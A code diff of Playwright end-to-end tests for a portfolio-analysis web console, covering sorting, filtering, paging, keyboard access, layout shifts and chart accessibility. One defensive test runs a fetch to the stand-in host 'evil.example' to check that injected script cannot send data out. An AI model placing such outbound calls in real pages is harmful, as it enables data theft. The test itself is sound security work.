@@ -1,25 +1,23 @@
 """What the pages tell is what the API says, on every screen, in both themes, for everybody."""
 
 import re
-from collections.abc import Callable
 from datetime import date
 from pathlib import Path
 from typing import Any, Literal, cast
 
 import pytest
-from playwright.sync_api import Browser, Locator, expect
+from playwright.sync_api import Browser, Locator, Route, expect
 
 from tests.console.site import Site, Visitor, is_phone
 from tests.end_to_end.app import BASE, running_app
 
+# Once what was rendered last has been laid out: all shifts there were, which the browser keeps.
 SHIFTS = """
-() => new Promise((done) => {
-  let sum = 0;
-  new PerformanceObserver((list) => {
-    for (const entry of list.getEntries()) sum += entry.hadRecentInput ? 0 : entry.value;
-  }).observe({ type: "layout-shift", buffered: true });
-  requestAnimationFrame(() => requestAnimationFrame(() => done(sum)));
-})
+() => new Promise((done) => requestAnimationFrame(() => setTimeout(() => {
+  const observer = new PerformanceObserver(() => {});
+  observer.observe({ type: "layout-shift", buffered: true });
+  done(observer.takeRecords().reduce((sum, entry) => sum + (entry.hadRecentInput ? 0 : entry.value), 0));
+})))
 """
 MOST_SHIFT = 0.02
 SORTS = (
@@ -78,10 +76,10 @@ def test_where_the_nightly_timer_is_disabled_no_night_is_announced(browser: Brow
         visitor.leave()
 
 
-def lines(reader: Visitor) -> list[str]:
-    """Give the users listed, in order, once the list has been loaded."""
+def lists(reader: Visitor, users: list[str]) -> None:
+    """Wait for the list to name these users, in this order, and no others."""
+    expect(reader.page.locator("tbody th a")).to_have_text(users)
     reader.settle()
-    return reader.page.locator("tbody th a").all_text_contents()
 
 
 def listed(site: Site, run_id: str, **query: Any) -> list[str]:  # noqa: ANN401 - any parameter
@@ -89,35 +87,26 @@ def listed(site: Site, run_id: str, **query: Any) -> list[str]:  # noqa: ANN401 
     return [line["user_id"] for line in answer.json()["portfolios"]]
 
 
-def until(look: Callable[[], object], expected: object, reader: Visitor) -> None:
-    """Wait for the page to show what is expected; Playwright's own waiting knows single elements only."""
-    for _ in range(100):
-        if look() == expected:
-            return
-        reader.page.wait_for_timeout(50)
-    assert look() == expected
-
-
 def test_portfolios_are_searched_filtered_and_sorted_as_the_api_does(reader: Visitor, site: Site, run_id: str) -> None:
     page = reader.page
     reader.go(f"/runs/{run_id}/portfolios")
-    until(lambda: lines(reader), listed(site, run_id), reader)
+    lists(reader, listed(site, run_id))
     for name, sort, order in SORTS:
         page.get_by_role("columnheader", name=name).get_by_role("link").click()
-        until(lambda: lines(reader), listed(site, run_id, sort=sort, order=order), reader)
+        lists(reader, listed(site, run_id, sort=sort, order=order))
         expect(page.get_by_role("columnheader", name=name)).to_have_attribute(
             "aria-sort", "ascending" if order == "asc" else "descending"
         )
     page.get_by_label("Status").select_option(label="Failed")
-    until(lambda: lines(reader), ["xena-corrupt-holding", "yuri-corrupt-account"], reader)
+    lists(reader, ["xena-corrupt-holding", "yuri-corrupt-account"])
     page.get_by_label("Status").select_option(label="All")
     page.get_by_label("Check crossed").select_option(label="Drawdown")
     page.get_by_label("How far").select_option(label="Breach")
     query = {"sort": "max_drawdown", "order": "asc"}
-    until(lambda: lines(reader), listed(site, run_id, check="drawdown:breach", **query), reader)
+    lists(reader, listed(site, run_id, check="drawdown:breach", **query))
     page.get_by_label("Check crossed").select_option(label="Any or none")
     page.get_by_label("User id begins with").press_sequentially("sam")
-    until(lambda: lines(reader), ["sam-stale-share"], reader)
+    lists(reader, ["sam-stale-share"])
     page.get_by_label("User id begins with").fill("nobody")
     expect(page.get_by_text("Nobody fits")).to_be_visible()
 
@@ -125,7 +114,7 @@ def test_portfolios_are_searched_filtered_and_sorted_as_the_api_does(reader: Vis
 def test_a_view_of_portfolios_can_be_linked_to(reader: Visitor, site: Site, run_id: str) -> None:
     reader.go(f"/runs/{run_id}/portfolios?status=analyzed&check=volatility&sort=market_value&order=desc&search=e")
     query = {"check": "volatility", "user_id_prefix": "e", "sort": "market_value", "order": "desc"}
-    until(lambda: lines(reader), listed(site, run_id, **query), reader)
+    lists(reader, listed(site, run_id, **query))
     expect(reader.page.get_by_label("User id begins with")).to_have_value("e")
     expect(reader.page.get_by_label("Check crossed")).to_have_value("volatility")
 
@@ -135,14 +124,17 @@ def test_a_filter_chosen_right_after_typing_stays_chosen(reader: Visitor, run_id
     reader.settle()
     reader.page.get_by_label("User id begins with").fill("x")
     reader.page.get_by_label("Status").select_option(label="Failed")
-    until(lambda: reader.address, f"/runs/{run_id}/portfolios?search=x&status=failed", reader)
+    reader.led_to(f"/runs/{run_id}/portfolios?search=x&status=failed")
 
 
 def test_a_page_that_a_link_leads_to_begins_at_its_top(reader: Visitor, run_id: str) -> None:
     reader.go(f"/runs/{run_id}/portfolios")
-    reader.page.get_by_role("link", name="zoe-admin").click()
+    last = reader.page.get_by_role("link", name="zoe-admin")
+    last.scroll_into_view_if_needed()
+    reader.page.wait_for_function("scrollY > 0")
+    last.click()
     reader.headed("zoe-admin")
-    assert reader.page.evaluate("scrollY") == 0
+    reader.page.wait_for_function("scrollY === 0")
 
 
 def test_many_portfolios_are_turned_over_page_by_page(reader: Visitor, site: Site, run_id: str) -> None:
@@ -157,13 +149,13 @@ def test_many_portfolios_are_turned_over_page_by_page(reader: Visitor, site: Sit
     site.database.portfolio_summaries.insert_many(copies)
     reader.go(f"/runs/{many}/portfolios?sort=market_value&order=desc")
     ordered = sorted((line["user_id"] for line in copies), key=lambda user: (int(user[1:]) % 7, user), reverse=True)
-    until(lambda: lines(reader), ordered[:100], reader)
+    lists(reader, ordered[:100])
     for first in (100, 200):
         reader.page.get_by_role("link", name="Next page").click()
-        until(lambda: lines(reader), ordered[first : first + 100], reader)
+        lists(reader, ordered[first : first + 100])
     expect(reader.page.get_by_role("link", name="Next page")).to_have_count(0)
     reader.page.get_by_role("link", name="First page").click()
-    until(lambda: lines(reader), ordered[:100], reader)
+    lists(reader, ordered[:100])
     site.database.portfolio_analysis_runs.delete_one({"run_id": many})
 
 
@@ -202,8 +194,15 @@ def test_the_lines_can_be_followed_by_the_keyboard_and_read_as_a_table(
     chart = growth.get_by_role("slider")
     expect(chart).to_have_attribute("aria-valuetext", re.compile(f"28 Dec 2022: .*, Portfolio {gained}"))
     start = date.fromisoformat(report["performance"]["start"]).strftime("%-d %b %Y")
+    reader.settle()
+    reader.page.mouse.move(0, 0)  # the figures at the pointer would be told, too
     chart.focus()
     chart.press("Home")
+    expect(chart).to_have_attribute("aria-valuetext", f"{start}: Benchmark 0%, Portfolio 0%")
+    canvas = chart.locator("canvas").element_handle()
+    width = canvas.evaluate("canvas => canvas.clientWidth")
+    reader.page.set_viewport_size({"width": 1000, "height": 700})
+    reader.page.wait_for_function("([canvas, width]) => canvas.clientWidth < width", arg=[canvas, width])
     expect(chart).to_have_attribute("aria-valuetext", f"{start}: Benchmark 0%, Portfolio 0%")
     chart.press("ArrowRight")
     expect(chart).to_have_attribute("aria-valuenow", "1")
@@ -259,9 +258,9 @@ def test_a_reader_elsewhere_sees_figures_as_written_there_in_sentences_of_one_la
 def test_the_longest_bar_is_as_long_as_there_is_room(reader: Visitor, run_id: str, place: str, name: str) -> None:
     reader.go(f"/runs/{run_id}{place}")
     card = region(reader, name)
-    expect(card).to_be_visible()
-    longest = card.locator(".bar").evaluate_all("bars => Math.max(...bars.map((bar) => bar.offsetWidth))")
-    assert longest > 0.15 * card.evaluate("card => card.offsetWidth")
+    expect(card.locator(".bar").first).to_be_attached()
+    longest = "Math.max(...Array.from(card.querySelectorAll('.bar'), (bar) => bar.offsetWidth))"
+    reader.page.wait_for_function(f"(card) => {longest} > 0.15 * card.offsetWidth", arg=card.element_handle())
 
 
 def test_the_audit_log_tells_who_started_what(reader: Visitor, run_id: str) -> None:
@@ -284,28 +283,30 @@ def test_a_link_that_leads_nowhere_says_so(reader: Visitor, place: str) -> None:
 
 def test_the_keyboard_alone_leads_from_the_overview_to_a_portfolio(reader: Visitor, run_id: str) -> None:
     page = reader.page
-    focus = "document.activeElement.textContent.trim()"
 
     def tab_to(text: str) -> None:
+        link = page.get_by_role("link", name=text, exact=True)
+        expect(link).to_be_visible()
+        reader.settle()
         for _ in range(60):
             page.keyboard.press("Tab")
-            if page.evaluate(focus) == text:
+            if link.evaluate("link => link === document.activeElement"):
                 return
         raise AssertionError(f"the keyboard never reached {text}")
 
-    reader.settle()
+    reader.begun("Overview")
     tab_to("Its portfolios")
     page.keyboard.press("Enter")
-    page.wait_for_url(f"**/runs/{run_id}/portfolios")
-    reader.headed("Portfolios")
-    assert page.evaluate(focus) == "Portfolios"  # reading begins at the heading
-    reader.settle()
+    reader.led_to(f"/runs/{run_id}/portfolios")
+    reader.begun("Portfolios")
     tab_to("ben-bluechip")
     page.keyboard.press("Enter")
-    reader.headed("ben-bluechip")
+    reader.led_to(f"/runs/{run_id}/portfolios/ben-bluechip")
+    reader.begun("ben-bluechip")
     page.keyboard.press("Shift+Tab")
     page.keyboard.press("Shift+Tab")
-    assert page.evaluate("document.activeElement !== document.body")
+    trail = page.get_by_role("navigation", name="Breadcrumb")
+    expect(trail.get_by_role("link", name="Run", exact=True)).to_be_focused()
 
 
 @pytest.mark.parametrize("theme", ["light", "dark"])
@@ -331,6 +332,7 @@ def test_every_page_is_accessible_steady_and_fits_its_screen(
             flaws[place].append("it is wider than the screen")
     visitor.go("/start")
     visitor.page.get_by_role("button", name="Continue").click()
+    expect(visitor.page.get_by_role("dialog")).to_be_visible()
     flaws["dialog"] = visitor.flaws()
     visitor.leave()
     assert {place: found for place, found in flaws.items() if found} == {}
@@ -343,7 +345,17 @@ def test_nothing_jumps_while_a_page_is_loaded(browser: Browser, site: Site, run_
     visitor.sign_in(keep=True)
     visitor.headed("Overview")
     visitor.go(what.format(run_id))
+    # However fast the app is: what stands there before it has answered is seen, and so is each answer that comes late.
+    held: list[Route] = []
+    is_held = True
+    visitor.page.route("**/api/**/portfolio/**", lambda route: held.append(route) if is_held else route.continue_())
     visitor.page.reload()
+    expect(visitor.page.locator(".skeleton").first).to_be_visible()
+    visitor.page.evaluate(SHIFTS)
+    is_held = False
+    for route in held:
+        route.continue_()
+        visitor.page.evaluate(SHIFTS)
     visitor.settle()
     assert visitor.page.evaluate(SHIFTS) < MOST_SHIFT
     visitor.leave()
@@ -387,7 +399,7 @@ def test_an_injected_script_or_style_does_nothing(reader: Visitor) -> None:
     assert set(found) == {"html", "script", "elsewhere", "timer"}
     leaked = reader.page.evaluate("fetch('https://evil.example/').then(() => 'sent', () => 'refused')")
     assert leaked == "refused"
-    assert reader.page.evaluate("window.injected") is None
+    assert reader.page.evaluate("window.injected") is None  # all of it was refused at once, nothing is left to come
     expect(reader.page.get_by_role("main")).to_be_visible()
 
 
